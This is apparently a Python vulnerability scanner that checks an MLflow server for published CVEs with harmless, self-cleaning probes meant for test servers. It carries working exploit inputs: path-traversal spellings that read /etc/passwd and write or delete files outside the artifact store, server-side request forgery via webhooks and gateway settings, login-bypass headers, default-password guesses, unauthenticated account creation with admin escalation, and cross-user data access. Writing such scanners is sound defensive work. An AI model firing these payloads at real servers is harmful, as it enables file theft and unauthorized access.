"""Published holes of MLflow, looked for from outside with the requests that public scanners send.

A probe says that there is a hole on proof alone: the content of a file that is none of the
server's came back, a request arrived at a listener, a write was carried out. They are harmless,
and remove what they have made, but for what the API cannot: deleted experiments, empty folders, and
the one file in the server's /tmp that proves a write. For servers of tests only.

Usage: python probes.py URL [--ca FILE] [--user NAME]   the password in MLFLOW_TRACKING_PASSWORD
Prints one line of JSON for each probe; exits 1 if there is a hole, and with an error if the server
does not answer or does not know the user: what refuses all has no hole, and shows nothing.
"""

import argparse
import base64
import http.client
import json
import os
import re
import secrets
import sys
import threading
from contextlib import contextmanager
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from typing import NamedTuple
from urllib.parse import quote, urlsplit

from crawl import Crawl

API, AJAX, UP = "/api/2.0/mlflow", "/ajax-api/2.0/mlflow", "../" * 12
ARTIFACTS = "/api/2.0/mlflow-artifacts/artifacts"
SEARCH = f"{API}/experiments/search?max_results=1"
PASSWD = re.compile(rb"^root:[^:\n]*:0:0:", re.MULTILINE)


class Unanswered(Exception):
    """The server was not asked what it was to be asked."""


class Finding(NamedTuple):
    """What a probe found: `evidence` says why it is a hole, or how it was answered."""

    name: str
    ids: tuple[str, ...]
    found: bool
    evidence: str


class Answer(NamedTuple):
    status: int
    body: bytes

    def __str__(self) -> str:
        return f"{self.status} {self.body[:80].decode(errors='replace')!r}"

    @property
    def json(self) -> dict:
        try:
            found = json.loads(self.body)
        except ValueError:
            return {}
        return found if isinstance(found, dict) else {}


# What proves a hole


def is_passwd(answer: Answer) -> bool:
    """Tell whether the content of /etc/passwd came back."""
    return answer.status == 200 and PASSWD.search(answer.body) is not None


def lists_etc(answer: Answer) -> bool:
    """Tell whether /etc was listed."""
    files = answer.json.get("files", [])
    return answer.status == 200 and any(
        isinstance(file, dict) and str(file.get("path", "")).endswith("passwd") for file in files
    )


def is_data(answer: Answer) -> bool:
    """Tell whether the API has answered a search of experiments, if only with none."""
    return answer.status == 200 and (
        "experiments" in answer.json or answer.json == {} and answer.body.strip() == b"{}"
    )


class Listener:
    """A listener for requests that the server is led into, and what has arrived there."""

    def __init__(self, url: str):
        self.url = url
        self.arrived: set[str] = set()

    def bait(self) -> tuple[str, str]:
        """Return an address that nobody else asks for, and the word to find it by."""
        word = secrets.token_hex(8)
        return f"{self.url}/{word}", word

    def caught(self, word: str) -> bool:
        return any(word in path for path in self.arrived)


@contextmanager
def listen(address: str = "127.0.0.1"):
    """Listen on an address that the server can reach, while the block runs."""

    class Handler(BaseHTTPRequestHandler):
        def do_GET(self):
            listener.arrived.add(self.path)
            self.send_response(404)
            self.send_header("Content-Length", "0")
            self.end_headers()

        do_POST = do_PUT = do_HEAD = do_DELETE = do_PROPFIND = do_GET

        def log_message(self, *_):
            pass

    server = ThreadingHTTPServer((address, 0), Handler)
    listener = Listener(f"http://{address}:{server.server_address[1]}")
    threading.Thread(target=server.serve_forever, daemon=True).start()
    try:
        yield listener
    finally:
        server.shutdown()
        server.server_close()


def basic(user: str, password: str) -> str:
    return "Basic " + base64.b64encode(f"{user}:{password}".encode()).decode()


class Target:
    """The server as the probes see it, anonymously or as a user.

    Args:
        url: Its address.
        ca: File with the certificate that signed the server's.
        user: Who asks; nobody if empty.
        password: The user's.
        listener: Where requests of the server's would arrive.
        others: What the user has no right to see: `experiment_id` and `run_id` of somebody else's.
    """

    def __init__(self, url, ca=None, user="", password="", listener=None, others=None):
        self.headers = {"Authorization": basic(user, password)} if user else {}
        self.http = Crawl(url, ca, self.headers, timeout=30)
        self.plain = Crawl(url, ca, timeout=30)
        self.url, self.user = urlsplit(url), user
        self.listener, self.others = listener, others or {}
        self.undo: list = []
        # Of all that was answered since somebody emptied it; 0 for no answer.
        self.statuses: set[int] = set()

    def send(self, method, path, body=None, anonymously=False, **headers) -> Answer:
        """Send a request as it is; no answer is status 0."""
        if isinstance(body, dict):
            body = json.dumps(body).encode()
        try:
            crawl = self.plain if anonymously else self.http
            response, content = crawl.ask(method, path, body, **headers)
            answer = Answer(response.status, content)
        except (OSError, http.client.HTTPException) as error:
            answer = Answer(0, str(error).encode())
        self.statuses.add(answer.status)
        return answer

    def check(self) -> None:
        """See that the server serves, and takes the user for who it is.

        Raises:
            Unanswered: It does not.
        """
        paths = ["/health"] + [f"{API}/users/current"] * bool(self.user)
        for path in paths:
            if (answer := self.send("GET", path)).status != 200:
                raise Unanswered(f"GET {path} as {self.user or 'nobody'}: {answer}")

    def post(self, path, /, **fields) -> Answer:
        return self.send("POST", path, fields)

    def later(self, method, path, /, **fields) -> None:
        """Remember a request that removes what was made."""
        self.undo.append((method, path, fields or None))

    def clean_up(self) -> None:
        while self.undo:
            method, path, fields = self.undo.pop()
            self.send(method, path, fields)

    # What several probes make first

    def experiment(self, **fields) -> tuple[str, Answer]:
        answer = self.post(f"{API}/experiments/create", name=name(), **fields)
        made = answer.json.get("experiment_id", "")
        if made:
            self.later("POST", f"{API}/experiments/delete", experiment_id=made)
        return made, answer

    def run(self, experiment: str) -> str:
        answer = self.post(f"{API}/runs/create", experiment_id=experiment)
        return answer.json.get("run", {}).get("info", {}).get("run_id", "")

    def model(self) -> tuple[str, Answer]:
        model = name()
        answer = self.post(f"{API}/registered-models/create", name=model)
        if answer.status == 200:
            self.later("DELETE", f"{API}/registered-models/delete", name=model)
        return model, answer


def name() -> str:
    return f"probe-{secrets.token_hex(6)}"


PROBES: list = []


def probe(*ids: str, anonymous_only: bool = False, user_only: bool = False):
    """Register a probe, which yields or returns pairs of whether it is a hole, and its evidence."""

    def register(function):
        PROBES.append((function, ids, anonymous_only, user_only))
        return function

    return register


def look(target: Target) -> list[Finding]:
    """Run all probes and return what each has found; a probe stops at its first hole.

    Raises:
        Unanswered: A probe got no answer at all, or as a user only that it is nobody's.
    """
    findings = []
    for function, ids, anonymous_only, user_only in PROBES:
        if target.user and anonymous_only or not target.user and user_only:
            continue
        last = (False, "nothing to ask")
        target.statuses.clear()
        try:
            for last in function(target):
                if last[0]:
                    break
        finally:
            target.clean_up()
        if target.statuses and target.statuses <= ({0, 401} if target.user else {0}):
            raise Unanswered(f"{function.__name__}: only {target.statuses}, at last {last[1]}")
        findings.append(Finding(function.__name__, ids, bool(last[0]), last[1]))
    return findings


# Files of the server


def version_of(target: Target, source: str, file: str, **fields):
    """Make a version of a model from a source, and ask for a file of it."""
    model, made = target.model()
    if made.status != 200:
        return made
    made = target.post(f"{API}/model-versions/create", name=model, source=source, **fields)
    if made.status != 200:
        return made
    return target.send(
        "GET", f"/model-versions/get-artifact?path={quote(file)}&name={model}&version=1"
    )


# CVE-2023-1177 and its bypasses by another spelling: CVE-2023-2780, GHSA of 2.3.1.
SOURCES = [
    "/etc",
    "file:///etc",
    "file:/etc",
    "file://localhost/etc",
    "//proc/self/root/etc",
    "file:///proc/self/root/etc",
    "file://%00/etc/",
    "mlflow-artifacts:/" + UP + "etc",
    "mlflow-artifacts:/%2e%2e/" + "%2e%2e/" * 11 + "etc",
    # CVE-2024-1593: parameters after a semicolon.
    "mlflow-artifacts:/;/" + UP + "etc",
    "file:///;/" + UP + "etc",
    "models:/../../etc",
    # CVE-2025-11201
    "mlflow-artifacts://" + UP + "etc",
]


@probe("CVE-2023-1177", "CVE-2023-2780", "CVE-2024-1593", "CVE-2025-11201")
def file_by_source_of_a_model_version(target):
    for source in SOURCES:
        answer = version_of(target, source, "passwd")
        yield is_passwd(answer), f"source {source}: {answer}"


@probe("CVE-2026-2614")
def file_by_source_of_a_prompt(target):
    tags = [{"key": "mlflow.prompt.is_prompt", "value": "true"}]
    for source in ("/etc", "file:///etc"):
        answer = version_of(target, source, "passwd", tags=tags)
        yield is_passwd(answer), f"source {source}: {answer}"


# The query (CVE-2023-6909), the fragment (CVE-2024-2928, CVE-2024-1483, CVE-2024-1594,
# CVE-2024-3848) and the parameters of a location.
LOCATIONS = [
    "http:///?/" + UP + "etc/",
    "http:///#/" + UP + "etc/",
    "http:///;/" + UP + "etc/",
    "http:///x?/../../#/" + UP + "etc/",
    "mlflow-artifacts:///#/" + UP + "etc/",
    "/etc",
    "file:///etc",
]


@probe("CVE-2023-6909", "CVE-2024-2928", "CVE-2024-1483", "CVE-2024-1594", "CVE-2024-3848")
def file_by_location_of_an_experiment(target):
    for location in LOCATIONS:
        experiment, answer = target.experiment(artifact_location=location)
        run = target.run(experiment) if experiment else ""
        if run:
            answer = version_of(target, "file:///etc/", "passwd", run_id=run)
            yield is_passwd(answer), f"location {location}, source file:///etc/: {answer}"
            answer = target.send("GET", f"/get-artifact?path=passwd&run_id={run}")
        yield is_passwd(answer), f"location {location}: {answer}"


# Spellings of a path that leads out of a folder.
ESCAPES = [
    UP,
    "..%2F" * 12,
    "%2e%2e/" * 12,
    "%252E%252E%252F" * 12,
    "%2e%2e%2f" * 12,
    "..;/" * 12,
    "..%5C" * 12,
    "/",
    "%2F",
    "%252F",
    "file:///",
    "file:%2F%2F%2F",
    "C:/../../../",
]


@probe("CVE-2023-30172", "CVE-2023-6977")
def file_by_path_of_an_artifact(target):
    experiment, answer = target.experiment()
    run = target.run(experiment) if experiment else "0" * 32
    for escape in ESCAPES:
        for path in (
            f"/get-artifact?path={escape}etc/passwd&run_id={run}",
            f"/get-artifact?path={escape}etc/passwd&run_uuid={run}",
        ):
            answer = target.send("GET", path)
            yield is_passwd(answer), f"GET {path}: {answer}"


@probe("CVE-2024-3573", "CVE-2023-3765")
def file_by_path_at_the_artifact_proxy(target):
    for escape in ESCAPES:
        for prefix in (ARTIFACTS, ARTIFACTS.replace("/api", "/ajax-api")):
            answer = target.send("GET", f"{prefix}/{escape}etc/passwd")
            yield is_passwd(answer), f"GET {prefix}/{escape}etc/passwd: {answer}"


@probe("CVE-2023-1176", "CVE-2024-3573")
def list_of_files_outside(target):
    experiment, _ = target.experiment()
    run = target.run(experiment) if experiment else "0" * 32
    for escape in ESCAPES:
        for path in (
            f"{ARTIFACTS}?path={escape}etc",
            f"{API}/artifacts/list?run_id={run}&path={escape}etc",
        ):
            answer = target.send("GET", path)
            yield lists_etc(answer), f"GET {path}: {answer}"


@probe("CVE-2023-6018", "CVE-2023-6015", "CVE-2023-6975")
def write_outside_of_the_artifacts(target):
    sent = secrets.token_bytes(16).hex().encode()
    for escape in ESCAPES:
        file = f"tmp/{name()}"
        path = f"{ARTIFACTS}/{escape}{file}"
        answer = target.send("PUT", path, sent)
        if answer.status != 200:
            yield False, f"PUT {path}: {answer}"
            continue
        target.later("DELETE", path)
        target.later("DELETE", f"{ARTIFACTS}/{file}")
        came_back = target.send("GET", path)
        inside = target.send("GET", f"{ARTIFACTS}/{file}")
        outside = came_back.body == sent and inside.body != sent and ".." in escape
        yield outside, f"PUT {path}: {answer}, read back: {came_back}, inside: {inside}"


@probe("CWE-73")
def write_by_location_of_an_experiment(target):
    """A location of one's own choice, which the server then writes to with its own rights."""
    folder = f"/tmp/{name()}"
    for location in (folder, f"file://{folder}"):
        experiment, answer = target.experiment(artifact_location=location)
        run = target.run(experiment) if experiment else ""
        if run:
            path = f"{AJAX}/upload-artifact?run_uuid={run}&path=probe.txt"
            answer = target.send("POST", path, b"probe")
        if answer.status == 200:
            answer = target.send("GET", f"/get-artifact?path=probe.txt&run_id={run}")
        yield answer == Answer(200, b"probe"), f"location {location}: {answer}"


@probe("CVE-2023-6831", "CVE-2024-1560")
def delete_by_a_path_that_leads_up(target):
    folder = name()
    path = f"{ARTIFACTS}/{folder}/kept"
    # Two steps down and two up, so that it stays among what the probe made.
    for up in ("%252E%252E/%252E%252E", "%2E%2E/%2E%2E", "..%2F..", "%252E%252E%252F%252E%252E"):
        if target.send("PUT", path, b"kept").status != 200:
            yield False, "nothing can be written, so nothing deleted"
            return
        target.later("DELETE", f"{ARTIFACTS}/{folder}")
        wanted = f"{ARTIFACTS}/{folder}/a/b/{up}/kept"
        answer = target.send("DELETE", wanted)
        kept = target.send("GET", path)
        yield kept.status == 404, f"DELETE {wanted}: {answer}, then GET {path}: {kept}"


# Requests that the server sends


@probe("CVE-2023-6974")
def request_by_source_or_location(target):
    if not target.listener:
        return
    for scheme in ("{}", "{}/?a=/../", "mlflow-artifacts://{0.netloc}{0.path}"):
        bait, word = target.listener.bait()
        address = scheme.format(urlsplit(bait) if "netloc" in scheme else bait)
        answer = version_of(target, address, "x")
        yield target.listener.caught(word), f"source {address}: {answer}"
        experiment, answer = target.experiment(artifact_location=address)
        run = target.run(experiment) if experiment else ""
        if run:
            answer = target.send("GET", f"{API}/artifacts/list?run_id={run}")
            answer = target.send("GET", f"/get-artifact?path=x&run_id={run}")
        yield target.listener.caught(word), f"location {address}: {answer}"


@probe("CVE-2026-64849", "GHSA-7gwp-5pfp-969j")
def request_by_webhook(target):
    if not target.listener:
        return
    for address in (
        "{}",
        "http://localhost:{0.port}{0.path}",
        "http://[::ffff:127.0.0.1]:{0.port}{0.path}",
    ):
        bait, word = target.listener.bait()
        url = address.format(urlsplit(bait) if "{0" in address else bait)
        event = {"entity": "REGISTERED_MODEL", "action": "CREATED"}
        made = target.post(f"{API}/webhooks", name=name(), url=url, events=[event])
        hook = made.json.get("webhook", {}).get("webhook_id")
        if hook:
            target.later("DELETE", f"{API}/webhooks/{hook}")
            made = target.post(f"{API}/webhooks/{hook}/test", event=event)
            target.model()
        yield target.listener.caught(word), f"webhook {url}: {made}"


@probe("CVE-2025-52967", "GHSA-wxj7-3fx5-pp9m")
def request_by_gateway_proxy(target):
    if not target.listener:
        return
    bait, word = target.listener.bait()
    for path in (bait, "@" + bait.removeprefix("http://"), "../" + bait):
        fields = {"gateway_path": path, "json_data": {}, "request_type": "GET"}
        answer = target.post(f"{AJAX}/gateway-proxy", **fields)
        answer = target.send("GET", f"{AJAX}/gateway-proxy?gateway_path={quote(path)}")
        yield target.listener.caught(word), f"gateway_path {path}: {answer}"


@probe("GHSA-h7x2-h6g9-p789")
def request_by_gateway_endpoint(target):
    if not target.listener:
        return
    bait, word = target.listener.bait()
    gateway = "/api/3.0/mlflow/gateway"
    answer = made = target.post(
        f"{gateway}/secrets/create",
        secret_name=name(),
        secret_value={"api_key": "of-a-probe"},
        provider="openai",
        auth_config={"api_base": bait},
    )
    secret = made.json.get("secret", {}).get("secret_id")
    if secret:
        target.later("DELETE", f"{gateway}/secrets/delete", secret_id=secret)
        answer = made = target.post(
            f"{gateway}/model-definitions/create",
            name=name(),
            secret_id=secret,
            provider="openai",
            model_name="gpt-4o-mini",
        )
    definition = made.json.get("model_definition", {}).get("model_definition_id")
    if definition:
        target.later(
            "DELETE", f"{gateway}/model-definitions/delete", model_definition_id=definition
        )
        endpoint = name()
        use = {"model_definition_id": definition, "linkage_type": "PRIMARY", "weight": 1.0}
        answer = made = target.post(
            f"{gateway}/endpoints/create", name=endpoint, model_configs=[use]
        )
        made_id = made.json.get("endpoint", {}).get("endpoint_id")
        if made_id:
            target.later("DELETE", f"{gateway}/endpoints/delete", endpoint_id=made_id)
            answer = target.post(
                f"/gateway/{endpoint}/mlflow/invocations",
                messages=[{"role": "user", "content": "probe"}],
            )
    yield target.listener.caught(word), f"api_base {bait}: {answer}"


# Past the login


# Spellings of a search of experiments, for a front or an app that compares paths before it
# reads them.
SPELLINGS = [
    SEARCH,
    SEARCH.replace("/api", "/ajax-api"),
    "/" + SEARCH,
    SEARCH.replace("/mlflow", "//mlflow"),
    SEARCH.replace("/api", "/%61pi"),
    SEARCH.replace("/api", "/API"),
    SEARCH.replace("/search", "/search/"),
    SEARCH.replace("/search", "/search%2f"),
    SEARCH.replace("/search", "/search;x"),
    SEARCH.replace("/search", "/search.json"),
    SEARCH.replace("/search", "/search%00"),
    SEARCH.replace("/search", "/./search"),
    "/static-files/.." + SEARCH,
    "/static-files/..%2f" + SEARCH[1:],
    "/static-files/%2e%2e" + SEARCH,
    "/static/../" + SEARCH[1:],
    "/health/.." + SEARCH,
    "/health/..%2f" + SEARCH[1:],
    "/favicon.ico/.." + SEARCH,
    "/gateway/.." + SEARCH,
    SEARCH + "#/health",
    SEARCH + "&x=/static-files/",
]


@probe("CWE-288", anonymous_only=True)
def data_by_another_spelling(target):
    for path in SPELLINGS:
        answer = target.send("GET", path)
        yield is_data(answer), f"GET {path}: {answer}"
        answer = target.send("POST", path.split("?")[0], {"max_results": 1})
        yield is_data(answer), f"POST {path.split('?')[0]}: {answer}"


DISGUISES = [
    ("/health", {"X_Original_URL": SEARCH}),
    ("/health", {"X_Rewrite_URL": SEARCH}),
    ("/health", {"X_Forwarded_Path": SEARCH}),
    (SEARCH, {"X_Original_URL": "/health"}),
    (SEARCH, {"X_Forwarded_Prefix": "/static"}),
    (SEARCH, {"X_Script_Name": "/health"}),
    (SEARCH, {"X_Forwarded_For": "127.0.0.1", "X_Real_IP": "127.0.0.1"}),
    (SEARCH, {"X_Forwarded_Host": "localhost", "Forwarded": "for=127.0.0.1;host=localhost"}),
    (SEARCH, {"X_Forwarded_User": "admin", "X_Remote_User": "admin", "Remote_User": "admin"}),
    (SEARCH, {"X_HTTP_Method_Override": "OPTIONS"}),
    (SEARCH, {"Authorization": "Basic Og=="}),
    (SEARCH, {"Authorization": "Bearer x"}),
    (SEARCH, {"Authorization": "Basic"}),
    (SEARCH, {"X_MLflow_Authorization": basic("admin", "")}),
    (SEARCH, {"Cookie": "mlflow-request-header-Authorization=" + basic("admin", "x")[6:]}),
    # The path was once read from what the Host header says.
    (SEARCH, {"Host": "localhost/health?"}),
    (SEARCH, {"Host": "localhost/static#"}),
]


@probe("CWE-290", anonymous_only=True)
def data_by_a_disguise(target):
    for path, headers in DISGUISES:
        answer = target.send("GET", path, **headers)
        yield is_data(answer), f"GET {path} {headers}: {answer}"
    for method in ("HEAD", "OPTIONS", "PATCH", "PROPFIND", "TRACE", "get"):
        answer = target.send(method, SEARCH)
        yield is_data(answer), f"{method} {SEARCH}: {answer}"


@probe("CVE-2026-2635", anonymous_only=True)
def default_password(target):
    if is_data(target.send("GET", SEARCH)):
        yield False, "it asks for no password at all"
        return
    for user, password in (
        ("admin", "password"),
        ("admin", "password1234"),
        ("admin", "admin"),
        ("mlflow", "mlflow"),
        ("admin", ""),
    ):
        answer = target.send("GET", SEARCH, Authorization=basic(user, password))
        yield is_data(answer), f"{user} with {password!r}: {answer}"


@probe("CVE-2026-0545", "CVE-2026-2652", anonymous_only=True)
def jobs_without_login(target):
    jobs = "/ajax-api/3.0/jobs"
    answer = target.post(f"{jobs}/search")
    yield answer.status == 200 and "jobs" in answer.json, f"POST {jobs}/search: {answer}"
    for path in (f"{jobs}/", jobs, f"/{jobs}/", "/ajax-api/3.0/%6aobs/"):
        answer = target.post(path, job_name="invoke_scorer", params={})
        yield answer.status == 200 and "job_id" in answer.json, f"POST {path}: {answer}"


def field(number: int, content: bytes) -> bytes:
    """Return a field of protobuf that has a length below 128."""
    return bytes([number << 3 | 2, len(content)]) + content


def one_span() -> bytes:
    """Return an export of OpenTelemetry with one span."""
    times = b"\x39" + (1).to_bytes(8, "little") + b"\x41" + (2).to_bytes(8, "little")
    ids = field(1, secrets.token_bytes(16)) + field(2, secrets.token_bytes(8))
    return field(1, field(2, field(2, ids + field(5, b"probe") + times)))


@probe("CVE-2026-2652")
def traces_without_right(target):
    experiment = target.others.get("experiment_id", "" if target.user else "0")
    if not experiment:
        return
    headers = {"Content_Type": "application/x-protobuf", "X_MLflow_Experiment_Id": experiment}
    for path in ("/v1/traces", "//v1/traces", "/v1/traces/"):
        answer = target.send("POST", path, one_span(), **headers)
        yield answer.status == 200, f"POST {path}: {answer}"


@probe("CVE-2026-2651", "GHSA-8c7q-86fq-vvmh")
def multipart_and_presigned_without_right(target):
    experiment = target.others.get("experiment_id", "" if target.user else "0")
    if not experiment:
        return
    proxy, file = "/api/2.0/mlflow-artifacts", f"{experiment}/{name()}"
    answer = target.post(f"{proxy}/mpu/create/{file}", path=file, num_parts=1)
    yield answer.status == 200, f"POST mpu/create/{file}: {answer}"
    answer = target.send("GET", f"{proxy}/presigned/{file}")
    yield answer.status == 200, f"GET presigned/{file}: {answer}"
    answer = target.send("PUT", f"{proxy}/artifacts/{file}", b"probe")
    if answer.status == 200:
        target.later("DELETE", f"{proxy}/artifacts/{file}")
    yield answer.status == 200, f"PUT artifacts/{file}: {answer}"


@probe("CWE-306", anonymous_only=True)
def write_without_login(target):
    experiment, answer = target.experiment()
    yield bool(experiment), f"experiments/create: {answer}"
    _, answer = target.model()
    yield answer.status == 200, f"registered-models/create: {answer}"


@probe("CVE-2023-6014", "CVE-2025-1473", "CVE-2025-1474", "GHSA-4qq5-mxxx-m6gg")
def account_without_right(target):
    user, password = name(), secrets.token_urlsafe(12)
    for path, body, content in (
        (f"{API}/users/create", json.dumps({"username": user, "password": password}), "json"),
        (f"{AJAX}/users/create", json.dumps({"username": user, "password": password}), "json"),
        (
            f"{API}/users/create-ui",
            f"username={user}&password={password}",
            "x-www-form-urlencoded",
        ),
        (f"{API}/users/create", f"username={user}&password={password}", "x-www-form-urlencoded"),
    ):
        kind = f"application/{content}"
        answer = target.send("POST", path, body.encode(), Content_Type=kind)
        target.later("DELETE", f"{API}/users/delete", username=user)
        login = target.send("GET", SEARCH, Authorization=basic(user, password))
        needed = not is_data(target.send("GET", SEARCH, anonymously=True))
        yield needed and is_data(login), f"POST {path}: {answer}; login: {login}"
    if target.user:
        answer = target.send(
            "PATCH", f"{API}/users/update-admin", {"username": target.user, "is_admin": True}
        )
        yield answer.status == 200, f"PATCH users/update-admin: {answer}"


@probe("CWE-306", "mlflow#25676", anonymous_only=True)
def graphql_without_login(target):
    for path in ("/graphql", "//graphql", "/graphql/", "/ajax-api/2.0/mlflow/graphql"):
        answer = target.post(path, query="{__schema{queryType{name}}}")
        yield answer.status == 200 and bool(answer.json.get("data")), f"POST {path}: {answer}"


@probe("CWE-306", anonymous_only=True)
def insides_without_login(target):
    """What tells of the server's insides: metrics, version, accounts, the assistant."""
    for path in (
        "/metrics",
        "/version",
        "/signup",
        "/docs",
        "/openapi.json",
        f"{API}/users/list",
        "/ajax-api/3.0/mlflow/assistant/config",
        "/ajax-api/3.0/mlflow/assistant/providers",
        "/api/3.0/mlflow/gateway/secrets/list",
        "/gateway/mlflow/v1/models",
        "/nginx_status",
        "/.git/config",
        "/.env",
    ):
        answer = target.send("GET", path)
        yield answer.status == 200, f"GET {path}: {answer}"


# Somebody else's browser


@probe("CVE-2025-14279")
def foreign_host(target):
    for host in ("rebound.example", "rebound.example:5000", "127.0.0.1.rebound.example", "10.evil"):
        answer = target.send("GET", SEARCH, Host=host)
        yield is_data(answer), f"Host {host}: {answer}"


@probe("CVE-2025-14279", "CVE-2023-43472")
def foreign_origin(target):
    path = SEARCH.split("?")[0]
    for origin in ("https://rebound.example", "null", "https://localhost.rebound.example"):
        # The second type is one that a browser sends without asking first.
        for kind in ("application/json", "text/plain"):
            answer = target.send("POST", path, {"max_results": 1}, Origin=origin, Content_Type=kind)
            yield is_data(answer), f"Origin {origin}, {kind}: {answer}"


# What another one owns


@probe("CVE-2026-33866", "GHSA-3p64-6gvh-82v5", "GHSA-qqq6-8wgv-xjqg", user_only=True)
def somebody_elses_data(target):
    experiment, run = target.others.get("experiment_id"), target.others.get("run_id")
    if not (experiment and run):
        return
    ids = {"experiment_id": experiment, "run_id": run}
    root = f"{experiment}/{run}/artifacts"
    query = f'{{mlflowGetRun(input:{{runId:"{run}"}}){{run{{info{{runId}}}}}}}}'
    dataset = {"name": "x", "digest": "x", "source_type": "local", "source": "x"}
    metric = {"key": "probe", "value": 1, "timestamp": 1, "step": 0}
    questions = [
        ("GET", f"{API}/experiments/get?experiment_id={experiment}", None),
        ("GET", f"{API}/runs/get?run_id={run}", None),
        ("GET", f"{AJAX}/runs/get?run_id={run}", None),
        ("GET", f"{API}/artifacts/list?run_id={run}", None),
        ("GET", f"/get-artifact?path=x&run_id={run}", None),
        ("GET", f"{API}/metrics/get-history?run_id={run}&metric_key=x", None),
        ("GET", f"{AJAX}/metrics/get-history-bulk?run_id={run}&metric_key=x", None),
        (
            "GET",
            f"{AJAX}/metrics/get-history-bulk-interval?run_ids={run}&metric_key=x&max_results=9",
            None,
        ),
        ("GET", f"{ARTIFACTS}?path={root}", None),
        ("GET", f"{ARTIFACTS}/{root}/x", None),
        ("PUT", f"{ARTIFACTS}/{root}/{name()}", b"probe"),
        ("POST", f"{AJAX}/upload-artifact?run_uuid={run}&path=x", b"probe"),
        ("POST", f"{API}/runs/log-metric", {"run_id": run} | metric),
        ("POST", f"{API}/runs/log-inputs", {"run_id": run, "datasets": [{"dataset": dataset}]}),
        ("POST", f"{API}/runs/set-tag", {"run_id": run, "key": "probe", "value": "x"}),
        ("POST", f"{API}/runs/create", {"experiment_id": experiment}),
        ("POST", f"{AJAX}/experiments/search-datasets", {"experiment_ids": [experiment]}),
        ("POST", f"{API}/experiments/set-experiment-tag", ids | {"key": "probe", "value": "x"}),
    ]
    for method, path, body in questions:
        answer = target.send(method, path, body)
        yield answer.status == 200, f"{method} {path}: {answer}"
    answer = target.post("/graphql", query=query)
    yield run in answer.body.decode(errors="replace"), f"POST /graphql: {answer}"
    answer = target.post(f"{API}/runs/search", experiment_ids=[experiment])
    yield bool(answer.json.get("runs")), f"runs/search: {answer}"


@probe("CWE-862", user_only=True)
def assistant_by_a_user(target):
    """From the server itself, as through an SSH tunnel, the assistant runs commands there."""
    path = "/ajax-api/3.0/mlflow/assistant/config"
    for headers in ({}, {"X_Forwarded_For": "127.0.0.1"}):
        answer = target.send("PUT", path, {}, **headers)
        yield answer.status == 200, f"PUT {path} {headers}: {answer}"


if __name__ == "__main__":
    parser = argparse.ArgumentParser(description=__doc__)
    parser.add_argument("url")
    parser.add_argument("--ca", metavar="FILE")
    parser.add_argument("--user", default="")
    parser.add_argument("--listen", default="127.0.0.1", metavar="ADDRESS")
    parser.add_argument("--others", type=json.loads, metavar="JSON")
    options = parser.parse_args()
    word = os.environ.get("MLFLOW_TRACKING_PASSWORD", "")
    with listen(options.listen) as heard:
        target = Target(options.url, options.ca, options.user, word, heard, options.others)
        try:
            target.check()
            results = look(target)
        except Unanswered as error:
            sys.exit(f"the server was not asked: {error}")
    for finding in results:
        print(json.dumps(finding._asdict()))
    sys.exit(any(finding.found for finding in results))
